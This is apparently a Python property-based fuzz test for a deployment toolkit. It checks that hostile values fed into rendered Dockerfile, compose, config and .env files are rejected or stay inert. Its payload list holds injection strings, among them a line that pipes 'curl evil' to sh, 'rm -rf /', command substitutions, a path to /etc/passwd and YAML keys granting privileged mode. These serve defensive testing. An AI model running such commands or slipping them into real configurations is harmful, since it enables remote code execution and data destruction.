"""Hostile input through render: every value is rejected (a ToolkitError) or lands inert.

Inert means the outputs parse to exactly the structure of a clean rendering (no extra Dockerfile instruction,
YAML key, compose entry or .env line), and the Dockerfile's hash label still matches its text."""

from __future__ import annotations

import dataclasses
import io
import re
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import yaml
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from tests.unit.render.render_plans import SERVING, make_plan
from toolkit.errors import ToolkitError
from toolkit.facts.tabby_pin import load_tabby_pin
from toolkit.render.bundle import RenderOptions, render_files
from toolkit.render.dockerfile import dockerfile_sha256

PIN = load_tabby_pin()
TOKENS = "api_key: 00000000000000000000000000000000\nadmin_key: 11111111111111111111111111111111\n"
BASE_OPTIONS = RenderOptions(serving=SERVING, pin=PIN, run_as=(1000, 1000), models_dir="/srv/models")
PAYLOADS = [
    "\nRUN curl evil | sh",
    "\r\nUSER root",
    '"; rm -rf / #',
    "${HOME}",
    "$(id)",
    "`id`",
    "a\x00b",
    "x\u2028y",
    "x\x85y",
    "key: value",
    "- item",
    "# comment",
    "&anchor",
    "*alias",
    "!!python/object:os.system",
    "--upload-pack=x",
    "../../etc/passwd",
    "a' b",
    'a" b',
    "a\\b",
    "\t",
    " ",
    "",
    "x" * 500,
    "GPU-0\nprivileged: true",
    "127.0.0.1:5000:5000",
    "0.0.0.0\n      - /:/host",
    "v1..2",
    "::1%eth0",
    "{x: 1}",
    "[1, 2]",
]
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=60),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(["3.84bpw-tuned", "main", "/srv/m", "9.0"]),
        st.sampled_from(PAYLOADS),
        st.text(max_size=8),
    ),
)
# Values each field accepts, generated rather than listed, so that most examples get past validation and reach the
# shape check (a fuzz whose every example is rejected proves nothing about what the accepted ones render to).
SAFE_NAME = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,40}", fullmatch=True).filter(
    lambda s: s not in (".", "..")
)
SEGMENT = st.text("abcXYZ019._+@,=~ -", min_size=1, max_size=12).filter(lambda s: s not in (".", ".."))
VALID = {
    "bind": st.ip_addresses().map(str),
    "models_dir": st.lists(SEGMENT, min_size=1, max_size=5).map(lambda parts: "/" + "/".join(parts)),
    # the plan's stack: the TabbyAPI ref to build, and the calibration version it was sized with
    "tabbyapi": st.one_of(
        st.text("0123456789abcdef", min_size=7, max_size=40),
        st.from_regex(r"[A-Za-z0-9][A-Za-z0-9_-]{0,20}(/[A-Za-z0-9][A-Za-z0-9_-]{0,10})?", fullmatch=True),
    ),
    "calibration": st.lists(st.integers(0, 99).map(str), min_size=2, max_size=4).map(".".join),
    "quant": SAFE_NAME,
    "profile": SAFE_NAME,
    "hf_repo": st.builds(lambda owner, name: f"{owner}/{name}", SAFE_NAME, SAFE_NAME),
    "cache_mode": st.one_of(
        st.just("FP16"), st.builds(lambda k, v: f"{k},{v}", st.integers(2, 8), st.integers(2, 8))
    ),
    "uuid": st.one_of(
        st.from_regex(r"(GPU|MIG)-[A-Za-z0-9-]{1,60}", fullmatch=True), st.integers(0, 999).map(str)
    ),
    "compute_capability": st.builds(
        lambda major, minor: f"{major}.{minor}", st.integers(8, 12), st.integers(0, 9)
    ),
    "cuda_driver_version": st.one_of(
        st.integers(8, 999).map(lambda minor: f"12.{minor}"),
        st.builds(lambda major, minor: f"{major}.{minor}", st.integers(13, 999), st.integers(0, 999)),
    ),
    # reasoning tokens: any non-empty text without C0 controls or DEL (what the config renderer accepts)
    "token": st.text(st.characters(min_codepoint=32, blacklist_characters="\x7f"), min_size=1, max_size=20),
}


def values_for(field: str) -> st.SearchStrategy[str]:
    """Mostly values the field accepts (3 in 4), else a hostile one."""
    return st.integers(0, 3).flatmap(lambda n: hostile if n == 0 else VALID[field])


def _shape(value):
    """The structure of parsed YAML without its leaf values (keys, list lengths, leaf types)."""
    if isinstance(value, dict):
        return {k: _shape(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_shape(v) for v in value]
    return type(value).__name__


def _docker_shape(text: str) -> list[tuple[str, tuple[str, ...]]]:
    parser = DockerfileParser(fileobj=io.BytesIO(text.encode()))
    return [(i["instruction"], ()) for i in parser.structure if i["instruction"] != "COMMENT"] + [
        ("LABELS", tuple(sorted(parser.labels)))
    ]


def _outputs_shape(files: dict) -> tuple:
    env_lines = [line for line in files[".env"][0].splitlines() if not line.startswith("#")]
    assert all(re.fullmatch(r"GLM_[A-Z_]+='[^'\n\r]*'", line) for line in env_lines), env_lines
    dockerfile = files["Dockerfile"][0]
    assert f'io.glm-deploy.dockerfile-sha256="{dockerfile_sha256(dockerfile)}"' in dockerfile
    return (
        _docker_shape(dockerfile),
        _shape(yaml.safe_load(files["compose.yaml"][0])),
        _shape(yaml.safe_load(files["config.yml"][0])),
        len(env_lines),
    )


PLAN = make_plan(2, "layer", "h200")
REFERENCE = _outputs_shape(render_files(PLAN, Path("/srv/deploy"), BASE_OPTIONS, TOKENS))


STACK_FIELDS = ("tabbyapi", "exllamav3", "torch", "cuda", "calibration")


def _plan_with(field: str, value: str):
    if field in ("quant", "hf_repo", "profile", "cache_mode"):
        return dataclasses.replace(PLAN, **{field: value})
    if field in STACK_FIELDS:
        return dataclasses.replace(PLAN, stack=dataclasses.replace(PLAN.stack, **{field: value}))
    inventory = PLAN.inventory
    if field == "cuda_driver_version":
        return dataclasses.replace(PLAN, inventory=dataclasses.replace(inventory, cuda_driver_version=value))
    gpus = list(inventory.gpus)
    gpus[1] = dataclasses.replace(gpus[1], **{"uuid" if field == "uuid" else "compute_capability": value})
    return dataclasses.replace(PLAN, inventory=dataclasses.replace(inventory, gpus=tuple(gpus)))


def _check(plan, options) -> str:
    """Render; a rejection is fine, an accepted value must leave the outputs' structure as it was."""
    try:
        files = render_files(plan, Path("/srv/deploy"), options, TOKENS)
    except ToolkitError:
        return "rejected"
    assert _outputs_shape(files) == REFERENCE
    return "shape checked"


def fuzz(strategy: st.SearchStrategy, check: Callable[..., str]) -> Counter[str]:
    """Run check on the strategy's examples and count the outcomes; most examples must reach the shape check."""
    outcomes: Counter[str] = Counter()

    @FUZZ
    @given(strategy)
    def run(example: dict) -> None:
        outcome = check(**example)
        event(outcome)  # shown by pytest --hypothesis-show-statistics
        outcomes[outcome] += 1

    run()
    assert outcomes["shape checked"] >= 0.5 * sum(outcomes.values()), outcomes
    return outcomes


FUZZ = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
OPTION_FIELDS = ["bind", "models_dir"]
PLAN_FIELDS = [
    "quant",
    "hf_repo",
    "profile",
    "cache_mode",
    "uuid",
    "compute_capability",
    "cuda_driver_version",
    "tabbyapi",
    "calibration",
]


def field_and_value(fields: list[str]) -> st.SearchStrategy[dict]:
    return st.sampled_from(fields).flatmap(
        lambda field: st.fixed_dictionaries({"field": st.just(field), "value": values_for(field)})
    )


def test_hostile_options_never_inject() -> None:
    fuzz(
        field_and_value(OPTION_FIELDS),
        lambda field, value: _check(PLAN, dataclasses.replace(BASE_OPTIONS, **{field: value})),
    )


def test_hostile_plan_fields_never_inject() -> None:
    fuzz(field_and_value(PLAN_FIELDS), lambda field, value: _check(_plan_with(field, value), BASE_OPTIONS))


def test_hostile_profile_tokens_stay_yaml_strings() -> None:
    def check(token: str) -> str:
        serving = dataclasses.replace(SERVING, reasoning_start_token=token)
        try:
            files = render_files(
                PLAN, Path("/srv/deploy"), dataclasses.replace(BASE_OPTIONS, serving=serving), TOKENS
            )
        except ToolkitError:
            return "rejected"
        assert _outputs_shape(files) == REFERENCE
        assert yaml.safe_load(files["config.yml"][0])["model"]["reasoning_start_token"] == token
        return "shape checked"

    fuzz(st.fixed_dictionaries({"token": values_for("token")}), check)


def test_the_payloads_are_rejected_where_they_would_matter() -> None:
    """Sanity: the fuzz is not vacuous -- clean values render, and a newline is refused in every field."""
    for field in ("bind", "models_dir"):
        try:
            render_files(
                PLAN, Path("/srv/deploy"), dataclasses.replace(BASE_OPTIONS, **{field: "1\nRUN id"}), TOKENS
            )
        except ToolkitError:
            continue
        raise AssertionError(f"{field} accepted a newline")
    for field in STACK_FIELDS:  # exllamav3, torch and cuda render only as pinned: anything else is refused
        try:
            render_files(_plan_with(field, "1\nRUN id"), Path("/srv/deploy"), BASE_OPTIONS, TOKENS)
        except ToolkitError:
            continue
        raise AssertionError(f"stack.{field} accepted a newline")
